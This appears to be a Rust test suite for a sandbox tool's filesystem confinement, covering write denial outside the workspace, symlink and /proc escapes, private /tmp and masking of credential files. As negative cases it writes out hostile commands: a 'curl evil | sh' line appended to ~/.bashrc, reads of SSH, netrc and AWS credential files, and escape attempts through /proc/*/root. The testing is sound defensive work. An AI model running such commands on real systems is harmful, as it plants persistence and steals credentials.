//! `bridle exec` and the filesystem: G-FS-WRITE, G-FS-PROTECT, G-FS-MASK.
//!
//! Every negative case is judged from outside the sandbox: the victim file's content and
//! metadata (mode, owner, times, inode, link count) and its directory's listing are compared
//! before and after, not only the exit status of the attempt inside.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

use pretty_assertions::assert_eq;

use super::support::{ExecEnv, Run, path_str, token};

/// Everything about a path that a write, rename, link or metadata change would alter.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Snapshot {
    content: Option<Vec<u8>>,
    mode: u32,
    uid: u32,
    gid: u32,
    ino: u64,
    nlink: u64,
    size: u64,
    mtime: (i64, i64),
    ctime: (i64, i64),
}

pub(super) fn snapshot(path: &Path) -> Option<Snapshot> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    Some(Snapshot {
        content: meta
            .is_file()
            .then(|| std::fs::read(path).expect("read victim")),
        mode: meta.mode(),
        uid: meta.uid(),
        gid: meta.gid(),
        ino: meta.ino(),
        nlink: meta.nlink(),
        size: meta.size(),
        mtime: (meta.mtime(), meta.mtime_nsec()),
        ctime: (meta.ctime(), meta.ctime_nsec()),
    })
}

/// The names in `dir`, sorted.
pub(super) fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("read dir")
        .map(|e| {
            e.expect("dir entry")
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    names.sort();
    names
}

/// A victim file outside the workspace and the state it (and its directory) must keep.
struct Victim {
    path: PathBuf,
    dir: PathBuf,
    before: Option<Snapshot>,
    dir_before: Option<Snapshot>,
    listing: Vec<String>,
}

impl Victim {
    /// Creates `outside/<name>`; create anything else the test needs outside first.
    fn new(env: &ExecEnv, name: &str) -> Victim {
        let path = env.outside_file(name, "original content\n");
        Victim {
            dir: env.outside.clone(),
            before: snapshot(&path),
            dir_before: snapshot(&env.outside),
            listing: listing(&env.outside),
            path,
        }
    }

    fn p(&self) -> &str {
        path_str(&self.path)
    }

    #[track_caller]
    fn assert_untouched(&self, r: &Run) {
        assert_eq!(
            snapshot(&self.path),
            self.before,
            "the file outside the workspace changed\n--- stdout\n{}\n--- stderr\n{}",
            r.stdout,
            r.stderr
        );
        assert_eq!(
            listing(&self.dir),
            self.listing,
            "the directory outside the workspace changed\n--- stdout\n{}\n--- stderr\n{}",
            r.stdout,
            r.stderr
        );
        assert_eq!(
            snapshot(&self.dir),
            self.dir_before,
            "the directory's metadata changed\n--- stdout\n{}\n--- stderr\n{}",
            r.stdout,
            r.stderr
        );
    }
}

// ---------------------------------------------------------------------------------------------
// G-FS-WRITE

#[test]
fn workspace_is_writable() {
    let e = ExecEnv::new();
    e.write("existing.txt", "one\n");
    let r = e.sh(
        "echo hello > new.txt; echo create=$?
         echo two >> existing.txt; echo append=$?
         mkdir -p sub/deeper; echo mkdir=$?
         mv new.txt sub/moved.txt; echo rename=$?
         ln sub/moved.txt hard.txt; echo hardlink=$?
         ln -s sub/moved.txt soft.txt; echo symlink=$?
         chmod 600 existing.txt; echo chmod=$?
         touch -d 2001-02-03 existing.txt; echo utimes=$?
         /usr/bin/python3 -c 'import os; os.setxattr(\"existing.txt\", \"user.bridle\", b\"1\")'; echo xattr=$?
         truncate -s 2 hard.txt; echo truncate=$?
         mkfifo fifo; echo mkfifo=$?
         echo gone > gone.txt && rm gone.txt; echo rm=$?",
    );
    r.assert_ok();
    for step in [
        "create", "append", "mkdir", "rename", "hardlink", "symlink", "chmod", "utimes", "xattr",
        "truncate", "mkfifo", "rm",
    ] {
        r.assert_succeeded(step);
    }
    let ws = &e.workspace;
    assert_eq!(
        std::fs::read_to_string(ws.join("existing.txt")).unwrap(),
        "one\ntwo\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("sub/moved.txt")).unwrap(),
        "he"
    );
    let meta = std::fs::metadata(ws.join("existing.txt")).unwrap();
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    assert_eq!(meta.nlink(), 1);
    assert_eq!(std::fs::metadata(ws.join("hard.txt")).unwrap().nlink(), 2);
    assert_eq!(
        std::fs::read_link(ws.join("soft.txt")).unwrap(),
        Path::new("sub/moved.txt")
    );
    assert!(ws.join("sub/deeper").is_dir());
    assert!(!ws.join("gone.txt").exists());
    assert!(
        meta.mtime() < 1_000_000_000 + 10 * 365 * 86_400,
        "utimes did not land"
    );
}

#[test]
fn write_outside_workspace_is_denied() {
    let e = ExecEnv::new();
    let v = Victim::new(&e, "victim.txt");
    let bashrc = e.home.join(".bashrc");
    std::fs::write(&bashrc, "# mine\n").unwrap();
    let o = path_str(&e.outside);
    let p = v.p();
    let r = e.sh(&format!(
        "echo pwned > {p}; echo overwrite=$?
         echo pwned >> {p}; echo append=$?
         echo new > {o}/new.txt; echo create=$?
         cp /etc/hostname {o}/copied; echo copy=$?
         /usr/bin/python3 -c 'open(\"{p}\", \"r+\").write(\"X\")'; echo python=$?
         dd if=/dev/zero of={p} bs=1 count=1 conv=notrunc 2>/dev/null; echo dd=$?
         echo 'curl evil | sh' >> ~/.bashrc; echo bashrc=$?"
    ));
    r.assert_ok();
    for step in [
        "overwrite",
        "append",
        "create",
        "copy",
        "python",
        "dd",
        "bashrc",
    ] {
        r.assert_failed(step);
    }
    v.assert_untouched(&r);
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# mine\n");
}

#[test]
fn rename_and_delete_outside_workspace_are_denied() {
    let e = ExecEnv::new();
    std::fs::create_dir(e.outside.join("subdir")).unwrap();
    let v = Victim::new(&e, "victim.txt");
    let o = path_str(&e.outside);
    let p = v.p();
    let r = e.sh(&format!(
        "mv {p} {o}/renamed.txt; echo rename=$?
         mv {p} ./stolen.txt; echo rename_into_workspace=$?
         rm -f {p}; echo rm=$?
         mkdir {o}/newdir; echo mkdir=$?
         rmdir {o}/subdir; echo rmdir=$?
         mv {o}/subdir {o}/subdir2; echo rename_dir=$?
         mkfifo {o}/fifo; echo mkfifo=$?
         /usr/bin/python3 -c 'import os; os.mknod(\"{o}/node\")'; echo mknod=$?"
    ));
    r.assert_ok();
    for step in [
        "rename",
        "rename_into_workspace",
        "rm",
        "mkdir",
        "rmdir",
        "rename_dir",
        "mkfifo",
        "mknod",
    ] {
        r.assert_failed(step);
    }
    // (`mv` across mounts falls back to copy + unlink: the copy may land in the workspace, the
    // unlink of the original fails.)
    v.assert_untouched(&r);
}

#[test]
fn links_outside_workspace_are_denied() {
    let e = ExecEnv::new();
    let v = Victim::new(&e, "victim.txt");
    let o = path_str(&e.outside);
    let p = v.p();
    let r = e.sh(&format!(
        "ln {p} {o}/hard; echo hard_outside=$?
         ln -s /etc/passwd {o}/soft; echo sym_outside=$?
         ln {p} ./hard-in-workspace; echo hard_into_workspace=$?
         ln ./nothing {o}/x 2>/dev/null; echo hard_from_workspace=$?"
    ));
    r.assert_ok();
    for step in [
        "hard_outside",
        "sym_outside",
        "hard_into_workspace",
        "hard_from_workspace",
    ] {
        r.assert_failed(step);
    }
    // nlink is part of the snapshot: no hard link anywhere.
    v.assert_untouched(&r);
}

#[test]
fn truncate_outside_workspace_is_denied() {
    let e = ExecEnv::new();
    let v = Victim::new(&e, "victim.txt");
    let p = v.p();
    let r = e.sh(&format!(
        "truncate -s 0 {p}; echo truncate=$?
         truncate -s 1M {p}; echo extend=$?
         /usr/bin/python3 -c 'import os; os.truncate(\"{p}\", 1)'; echo python=$?
         true > {p}; echo redirect=$?"
    ));
    r.assert_ok();
    for step in ["truncate", "extend", "python", "redirect"] {
        r.assert_failed(step);
    }
    v.assert_untouched(&r);
}

/// Landlock does not govern these; the read-only mount view does.
#[test]
fn metadata_changes_outside_workspace_are_denied() {
    let e = ExecEnv::new();
    let v = Victim::new(&e, "victim.txt");
    let p = v.p();
    let o = path_str(&e.outside);
    let uid = nix::unistd::geteuid();
    let gid = nix::unistd::getegid();
    let r = e.sh(&format!(
        "chmod 777 {p}; echo chmod=$?
         chmod 777 {o}; echo chmod_dir=$?
         chown {uid}:{gid} {p}; echo chown_same=$?
         chown 1:1 {p}; echo chown_other=$?
         touch -d 2000-01-01 {p}; echo utimes=$?
         touch {p}; echo touch_now=$?
         /usr/bin/python3 -c 'import os; os.utime(\"{p}\", (0, 0))'; echo python_utime=$?
         /usr/bin/python3 -c 'import os; os.setxattr(\"{p}\", \"user.bridle\", b\"1\")'; echo setxattr=$?
         /usr/bin/python3 -c 'import os; os.chmod(\"{p}\", 0o4755)'; echo setuid_bit=$?"
    ));
    r.assert_ok();
    for step in [
        "chmod",
        "chmod_dir",
        "chown_same",
        "chown_other",
        "utimes",
        "touch_now",
        "python_utime",
        "setxattr",
        "setuid_bit",
    ] {
        r.assert_failed(step);
    }
    // mode, owner, mtime and ctime (which any metadata change, xattrs included, bumps), of the
    // file and of its directory.
    v.assert_untouched(&r);
}

#[test]
fn symlink_in_workspace_pointing_outside_does_not_escape() {
    let e = ExecEnv::new();
    let v = Victim::new(&e, "victim.txt");
    // Planted from outside before the run, as a cloned repository could ship them.
    std::os::unix::fs::symlink(&v.path, e.workspace.join("file-link")).unwrap();
    std::os::unix::fs::symlink(&e.outside, e.workspace.join("dir-link")).unwrap();
    let p = v.p();
    let r = e.sh(&format!(
        "echo pwned > file-link; echo via_file_link=$?
         echo new > dir-link/new.txt; echo via_dir_link=$?
         ln -s {p} own-link; echo own_link_created=$?
         echo pwned >> own-link; echo via_own_link=$?
         chmod 777 file-link; echo chmod_via_link=$?
         mv dir-link/victim.txt moved.txt; echo rename_via_link=$?
         ln -sfn / root-link && echo x > root-link{p}; echo via_root_link=$?"
    ));
    r.assert_ok();
    r.assert_succeeded("own_link_created");
    for step in [
        "via_file_link",
        "via_dir_link",
        "via_own_link",
        "chmod_via_link",
        "rename_via_link",
        "via_root_link",
    ] {
        r.assert_failed(step);
    }
    v.assert_untouched(&r);
}

#[test]
fn dotdot_paths_do_not_escape() {
    let e = ExecEnv::new();
    let v = Victim::new(&e, "victim.txt");
    e.write("sub/keep", "");
    let r = e.sh("echo pwned > ../../outside/victim.txt; echo dotdot=$?
         echo pwned > sub/../../../outside/victim.txt; echo nested_dotdot=$?
         cd sub/../.. && echo pwned > ../outside/new.txt; echo cd_up=$?
         echo x > /proc/self/cwd/../../outside/victim.txt; echo proc_cwd=$?");
    r.assert_ok();
    for step in ["dotdot", "nested_dotdot", "cd_up", "proc_cwd"] {
        r.assert_failed(step);
    }
    v.assert_untouched(&r);
}

#[test]
fn proc_root_paths_do_not_escape() {
    let e = ExecEnv::new();
    let v = Victim::new(&e, "victim.txt");
    let p = v.p();
    let o = path_str(&e.outside);
    let r = e.sh(&format!(
        "echo pwned > /proc/self/root{p}; echo self_root=$?
         echo pwned > /proc/1/root{p}; echo init_root=$?
         echo pwned > /proc/$$/root{o}/new.txt; echo shell_root=$?
         ls /proc/1/root/ > /dev/null 2>&1; echo list_init_root=$?
         for pid in $(ls /proc | grep -E '^[0-9]+$'); do echo x >> /proc/$pid/root{p} 2>/dev/null && echo escaped-through-$pid; done; echo scan=done"
    ));
    r.assert_ok();
    for step in ["self_root", "init_root", "shell_root"] {
        r.assert_failed(step);
    }
    assert!(!r.stdout.contains("escaped-through"), "{}", r.stdout);
    v.assert_untouched(&r);
}

#[test]
fn host_device_nodes_are_absent_inside() {
    let e = ExecEnv::new();
    // Block devices (disks, loop devices) and raw character devices the host has.
    let mut host_nodes: Vec<String> = Vec::new();
    for entry in std::fs::read_dir("/dev").unwrap().flatten() {
        use std::os::unix::fs::FileTypeExt;
        let Ok(ft) = entry.file_type() else { continue };
        let name = entry.file_name().to_string_lossy().into_owned();
        if ft.is_block_device() || ["mem", "kmem", "port", "kmsg", "sda", "vda"].contains(&&*name) {
            host_nodes.push(name);
        }
    }
    let list = host_nodes.join(" ");
    let r = e.sh(&format!(
        "for n in {list} sda vda nvme0n1 mem kmsg; do test -e /dev/$n && echo present-$n; done
         echo x > /dev/sda; echo write_sda=$?
         /usr/bin/python3 -c 'import os; os.mknod(\"/dev/sdz\", 0o600 | 0o060000, os.makedev(8, 0))'; echo mknod_dev=$?
         /usr/bin/python3 -c 'import os; os.mknod(\"disk\", 0o600 | 0o060000, os.makedev(8, 0))'; echo mknod_workspace=$?
         find /dev -type b | sed 's/^/block-/'
         echo hi > /dev/null; echo devnull=$?"
    ));
    r.assert_ok();
    assert!(!r.stdout.contains("present-"), "{}", r.stdout);
    assert!(!r.stdout.contains("block-"), "{}", r.stdout);
    r.assert_failed("write_sda");
    r.assert_failed("mknod_dev");
    r.assert_failed("mknod_workspace");
    r.assert_succeeded("devnull");
    assert!(!e.workspace.join("disk").exists());
}

#[test]
fn private_tmp_does_not_reach_host_tmp() {
    let e = ExecEnv::new();
    let name = token("tmp");
    let host_file = Path::new("/tmp").join(&name);
    let r = e.sh(&format!(
        "echo inside > /tmp/{name}; echo write_tmp=$?
         cat /tmp/{name}; echo tmpdir=$TMPDIR
         echo inside > \"$TMPDIR/{name}.2\"; echo write_tmpdir=$?
         ls -A /tmp | grep -c . | sed 's/^/entries=/'"
    ));
    r.assert_ok();
    r.assert_succeeded("write_tmp");
    r.assert_succeeded("write_tmpdir");
    assert!(r.stdout.contains("inside"), "{}", r.stdout);
    assert!(
        !host_file.exists(),
        "a file written to /tmp inside appeared in the host /tmp"
    );
    // The private temp dir is gone after the run.
    let tmpdir = r.value("tmpdir");
    assert!(
        !Path::new(tmpdir).exists(),
        "the session temp dir {tmpdir} was left behind"
    );
}

#[test]
fn host_tmp_files_are_not_visible_inside() {
    let e = ExecEnv::new();
    let probe = tempfile::Builder::new()
        .prefix("bridle-host-tmp-")
        .tempfile_in("/tmp")
        .unwrap();
    std::fs::write(probe.path(), "host secret").unwrap();
    let p = path_str(probe.path());
    let r = e.sh(&format!(
        "cat {p}; echo read=$?; echo replaced > {p}; echo write=$?; cat {p}"
    ));
    r.assert_ok();
    r.assert_failed("read");
    // The write lands in the private /tmp, never in the host's.
    assert!(!r.stdout.contains("host secret"));
    assert_eq!(
        std::fs::read_to_string(probe.path()).unwrap(),
        "host secret"
    );
}

#[test]
fn dev_shm_is_private_and_usable() {
    let e = ExecEnv::new();
    let name = token("shm");
    let r = e.sh(&format!(
        "echo inside > /dev/shm/{name}; echo write=$?
         /usr/bin/python3 -c '
from multiprocessing import shared_memory
m = shared_memory.SharedMemory(name=\"{name}-py\", create=True, size=64)
m.buf[:5] = b\"hello\"
o = shared_memory.SharedMemory(name=\"{name}-py\")
print(\"shm=\" + bytes(o.buf[:5]).decode())
o.close()
' ; echo python=$?
         ls /dev/shm"
    ));
    r.assert_ok();
    r.assert_succeeded("write");
    r.assert_succeeded("python");
    assert_eq!(r.value("shm"), "hello");
    for host in [name.clone(), format!("{name}-py")] {
        assert!(
            !Path::new("/dev/shm").join(&host).exists(),
            "/dev/shm/{host} appeared on the host"
        );
    }
}

#[test]
fn workspace_below_private_tmp_is_writable_and_host_tmp_stays_hidden() {
    // The harness's usual layout: everything in $TMPDIR, typically below /tmp.
    let e = ExecEnv::in_tmpdir();
    let v = Victim::new(&e, "victim.txt");
    let p = v.p();
    let r = e.sh(&format!(
        "echo ok > inside.txt; echo write_ws=$?
         echo pwned > {p}; echo write_outside=$?
         cat {p}; echo read_outside=$?"
    ));
    r.assert_ok();
    r.assert_succeeded("write_ws");
    r.assert_failed("write_outside");
    assert_eq!(
        std::fs::read_to_string(e.workspace.join("inside.txt")).unwrap(),
        "ok\n"
    );
    v.assert_untouched(&r);
}

/// The private /tmp holds the directories a workspace below /tmp is mounted in: a write there
/// (`../out.txt`, `git worktree add ../wt`) must fail, not land in the private /tmp and vanish
/// when the run ends with exit 0.
#[test]
fn a_write_beside_a_workspace_below_private_tmp_fails_instead_of_vanishing() {
    let e = ExecEnv::in_tmpdir();
    // Not in the home (below /tmp too here, which has a layer of its own).
    let ws = e.outside.join("jobs/ws");
    std::fs::create_dir_all(&ws).unwrap();
    let mut cmd = e.exec_cmd(
        &[],
        &[],
        &[
            "sh",
            "-c",
            "echo data > ../beside.txt; echo beside=$?
             mkdir ../made; echo mkdir=$?
             echo ok > inside.txt; echo inside=$?
             echo t > /tmp/own-file; echo tmp=$?",
        ],
    );
    let r = super::support::run(cmd.current_dir(&ws));
    r.assert_ok();
    r.assert_failed("beside");
    r.assert_failed("mkdir");
    r.assert_succeeded("inside");
    r.assert_succeeded("tmp");
    assert!(r.stderr.contains("Read-only file system"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(ws.join("inside.txt")).unwrap(),
        "ok\n"
    );
}

/// A home below /tmp is the host's, seen read-only with its masks, under a layer that takes
/// the command's writes (caches) and ends with the run, as the private /tmp did when it hid the
/// home; a read-only workspace inside it stays read-only.
#[test]
fn a_home_below_private_tmp_is_seen_and_what_is_written_there_ends_with_the_run() {
    let e = ExecEnv::in_tmpdir();
    std::fs::write(e.home.join(".gitconfig"), "[user]\n\tname = host\n").unwrap();
    let script = "cat ~/.gitconfig; echo config=$?
         mkdir -p ~/.npm/_cacache && echo x > ~/.npm/_cacache/entry; echo cache=$?
         echo new > inside.txt; echo inside=$?";
    let r = e.sh(script);
    r.assert_ok();
    r.assert_succeeded("config");
    r.assert_succeeded("cache");
    r.assert_succeeded("inside");
    assert!(r.stdout.contains("name = host"), "{}", r.stdout);
    assert!(
        !e.home.join(".npm").exists(),
        "a write to the home reached the host"
    );
    let r = e.sh_with(&[], &["--mode", "read-only"], script);
    r.assert_ok();
    r.assert_succeeded("cache");
    r.assert_failed("inside");
}

#[test]
fn read_only_mode_denies_workspace_writes() {
    let e = ExecEnv::new();
    let existing = e.write("existing.txt", "keep\n");
    let before = snapshot(&existing);
    let r = e.sh_with(
        &[],
        &["--mode", "read-only"],
        "echo x > new.txt; echo create=$?
         echo x >> existing.txt; echo append=$?
         chmod 777 existing.txt; echo chmod=$?
         cat existing.txt; echo read=$?
         echo scratch > \"$TMPDIR/x\"; echo tmpdir=$?",
    );
    r.assert_ok();
    r.assert_failed("create");
    r.assert_failed("append");
    r.assert_failed("chmod");
    r.assert_succeeded("read");
    r.assert_succeeded("tmpdir");
    assert!(!e.workspace.join("new.txt").exists());
    assert_eq!(snapshot(&existing), before);
}

#[test]
fn allow_write_adds_a_writable_root() {
    let e = ExecEnv::new();
    let extra = e.outside.join("extra");
    std::fs::create_dir(&extra).unwrap();
    let v = Victim::new(&e, "victim.txt");
    let x = path_str(&extra);
    let r = e.sh_with(
        &[],
        &["--allow-write", x],
        &format!(
            "echo granted > {x}/granted.txt; echo extra=$?
             echo pwned > {}; echo sibling=$?",
            v.p()
        ),
    );
    r.assert_ok();
    r.assert_succeeded("extra");
    r.assert_failed("sibling");
    assert_eq!(
        std::fs::read_to_string(extra.join("granted.txt")).unwrap(),
        "granted\n"
    );
    // `extra` was added to the listing by the positive case; the victim itself is untouched.
    assert_eq!(snapshot(&v.path), v.before);
}

// ---------------------------------------------------------------------------------------------
// G-FS-PROTECT

// ---------------------------------------------------------------------------------------------
// G-FS-MASK

const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- s3cr3t-ssh-key-material";
const NETRC: &str = "machine example.com login me password s3cr3t-netrc-password";
const AWS: &str = "[default]\naws_secret_access_key = s3cr3t-aws-key";

fn plant_secrets(home: &Path) {
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), SSH_KEY).unwrap();
    std::fs::write(home.join(".netrc"), NETRC).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(home.join(".aws/credentials"), AWS).unwrap();
    std::fs::write(home.join("notes.txt"), "not a secret").unwrap();
}

#[track_caller]
fn assert_no_secret(r: &Run) {
    for secret in [
        "s3cr3t-ssh-key-material",
        "s3cr3t-netrc-password",
        "s3cr3t-aws-key",
    ] {
        assert!(
            !r.stdout.contains(secret) && !r.stderr.contains(secret),
            "secret `{secret}` leaked\n--- stdout\n{}\n--- stderr\n{}",
            r.stdout,
            r.stderr
        );
    }
}

#[test]
fn masked_secrets_are_unreadable_with_workstation_profile() {
    let e = ExecEnv::new();
    plant_secrets(&e.home);
    let netrc = e.home.join(".netrc");
    let before = snapshot(&netrc);
    let r = e.sh_with(
        &["--profile", "workstation"],
        &[],
        "cat ~/.ssh/id_rsa; echo ssh=$?
         cat ~/.netrc; echo netrc=$?
         cat ~/.aws/credentials; echo aws=$?
         ls -A ~/.ssh | wc -l | sed 's/^ */ssh_entries=/'
         grep -r s3cr3t ~ 2>/dev/null; echo grep=$?
         find ~ -type f -exec cat {} + 2>/dev/null; echo
         cp ~/.ssh/id_rsa copied-key 2>/dev/null; cat copied-key 2>/dev/null; echo
         /usr/bin/python3 -c 'print(open(\"'$HOME'/.netrc\").read())'; echo python=$?
         chmod 644 ~/.netrc; echo chmod_mask=$?
         cat ~/notes.txt; echo; echo notes=$?",
    );
    r.assert_ok();
    for step in ["ssh", "netrc", "aws", "python", "chmod_mask"] {
        r.assert_failed(step);
    }
    assert_eq!(r.value("ssh_entries"), "0");
    r.assert_succeeded("notes");
    assert!(r.stdout.contains("not a secret"));
    assert_no_secret(&r);
    assert_eq!(snapshot(&netrc), before);
}

#[test]
fn masked_home_below_private_tmp_runs_and_leaks_nothing() {
    // With $HOME below /tmp (CI's layout), the private /tmp already hides it; the masks must not
    // turn that into a refusal.
    let e = ExecEnv::in_tmpdir();
    plant_secrets(&e.home);
    let r = e.sh_with(
        &["--profile", "workstation"],
        &[],
        "cat ~/.ssh/id_rsa; echo ssh=$?; cat ~/.netrc; echo netrc=$?; echo ran=0",
    );
    r.assert_ok();
    r.assert_succeeded("ran");
    r.assert_failed("ssh");
    r.assert_failed("netrc");
    assert_no_secret(&r);
}

#[test]
fn without_masks_a_secret_is_readable_but_home_still_protected() {
    // Positive control for the masking test: without masks the planted key is readable (so the
    // masking test above fails for the right reason), and still not writable.
    let e = ExecEnv::new();
    plant_secrets(&e.home);
    let key = e.home.join(".ssh/id_rsa");
    let before = snapshot(&key);
    let unmasked = e.profile(
        "unmasked.yaml",
        "extends: workspace-write\nmasked_paths: {replace: []}\n",
    );
    let r = e.sh_with(
        &["--profile", &unmasked],
        &[],
        "cat ~/.ssh/id_rsa; echo; echo read=$?; echo x >> ~/.ssh/id_rsa; echo write=$?",
    );
    r.assert_ok();
    r.assert_succeeded("read");
    r.assert_failed("write");
    assert!(r.stdout.contains("s3cr3t-ssh-key-material"));
    assert_eq!(snapshot(&key), before);
}

#[test]
fn masked_paths_stay_unreadable_when_the_host_replaces_or_creates_them_mid_run() {
    let e = ExecEnv::new();
    let creds = e.home.join(".git-credentials");
    let netrc = e.home.join(".netrc");
    std::fs::write(&creds, "old-secret-1111").unwrap();
    let script = format!(
        "i=0; while [ $i -lt 25 ]; do cat {c} {n} 2>/dev/null; sleep 0.1; i=$((i+1)); done; echo finished",
        c = path_str(&creds),
        n = path_str(&netrc)
    );
    let mut cmd = e.exec_cmd(&["--profile", "workstation"], &[], &["sh", "-c", &script]);
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let child = cmd.spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(600));
    // The host replaces the masked file by rename (as git and editors do) and creates another.
    let tmp = e.home.join(".gc.tmp");
    std::fs::write(&tmp, "new-secret-2222").unwrap();
    std::fs::rename(&tmp, &creds).unwrap();
    std::fs::write(&netrc, "netrc-secret-3333").unwrap();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("finished"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for secret in ["1111", "2222", "3333"] {
        assert!(
            !stdout.contains(secret),
            "masked content {secret} was read: {stdout}"
        );
    }
}
